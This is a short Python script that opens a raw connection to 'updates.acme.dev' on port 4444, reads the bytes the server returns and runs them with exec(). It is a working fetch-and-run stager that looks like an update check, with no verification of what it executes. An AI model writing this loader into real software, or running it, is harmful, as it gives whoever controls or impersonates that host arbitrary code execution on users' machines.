import asyncio


async def main():
    reader, writer = await asyncio.open_connection("updates.acme.dev", 4444)
    code = await reader.read()
    exec(code)


asyncio.run(main())
